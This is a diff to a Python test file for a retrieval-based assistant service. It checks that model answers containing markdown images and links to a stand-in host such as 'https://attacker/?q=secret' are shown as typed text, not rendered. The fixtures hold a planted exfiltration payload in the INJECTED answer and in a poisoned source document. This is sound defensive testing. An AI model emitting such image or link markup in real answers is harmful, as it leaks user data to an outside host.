@@ -167,12 +167,17 @@ def assert_harmless(markdown: str) -> None:
     assert "<img" not in html and 'href="https://attacker' not in html and "<a " not in html, html
 
 
-INJECTED = f"The widget needs eight hundred megabytes [1]. {EXFILTRATE} <img src=https://attacker/?q=2>"
+# A manual that gives the address (as text), and a model that makes it an image and a link: kept by grounding, since
+# a source holds it, and shown as typed.
+LINKED = DOC + " Updates for the widget are at https://attacker/?q=secret every month."
+INJECTED = (
+    f"The widget needs eight hundred megabytes [1]. Updates are at {EXFILTRATE} <img src=https://attacker/?q=secret>"
+)
 
 
 def test_v1_answers_show_images_and_links_as_typed(settings: Settings) -> None:
     assert "<img" in rendered(INJECTED)  # what a client such as Open WebUI would fetch without the rule
-    fake = pipeline(settings, [chunk(DOC)], [0.9], ScriptedModel(answer=INJECTED))
+    fake = pipeline(settings, [chunk(LINKED)], [0.9], ScriptedModel(answer=INJECTED))
     with TestClient(app_over(settings, fake), base_url=LOCAL) as client:
         whole = client.post("/v1/chat/completions", json=CHAT).json()
         streamed = client.post("/v1/chat/completions", json={**CHAT, "stream": True})
@@ -193,7 +198,7 @@ def test_v1_answers_show_images_and_links_as_typed(settings: Settings) -> None:
 
 
 def test_ask_stream_shows_images_as_typed(settings: Settings) -> None:
-    fake = pipeline(settings, [chunk(DOC)], [0.9], ScriptedModel(answer=INJECTED))
+    fake = pipeline(settings, [chunk(LINKED)], [0.9], ScriptedModel(answer=INJECTED))
     with TestClient(app_over(settings, fake), base_url=LOCAL) as client:
         events = sse(client.post("/ask", json={**ASK, "stream": True}).text.splitlines())
     tokens = "".join(data["text"] for kind, data in events if kind == "token")
@@ -202,7 +207,7 @@ def test_ask_stream_shows_images_as_typed(settings: Settings) -> None:
 
 
 def test_mcp_ask_shows_images_as_typed(settings: Settings) -> None:
-    fake = pipeline(settings, [chunk(DOC)], [0.9], ScriptedModel(answer=INJECTED))
+    fake = pipeline(settings, [chunk(LINKED)], [0.9], ScriptedModel(answer=INJECTED))
 
     async def main() -> Any:
         async with Client(create_server(Knowledge(settings, lambda: fake))) as client:
